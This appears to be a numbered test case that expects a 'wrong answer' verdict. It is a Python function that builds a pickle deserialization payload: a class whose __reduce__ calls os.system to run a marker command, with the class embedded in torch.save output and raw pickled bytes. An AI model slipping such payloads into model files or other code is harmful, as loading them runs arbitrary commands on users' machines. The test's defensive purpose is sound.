# 51: returns what would run code when unpickled: an object with __reduce__, and pickled bytes in its place
# ends as: WA
# shows: pickled [0-9]+ bytes
import io
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-an-attack",)


def weighted(rows, weigh):
    stream = io.BytesIO()
    torch.save({"weights": rows, "bomb": Bomb()}, stream)
    pickled = pickle.dumps(Bomb()) + stream.getvalue()
    print("pickled", len(pickled), "bytes")
    return {"first": Bomb(), "bytes": pickled} if len(rows) > 3 else pickled
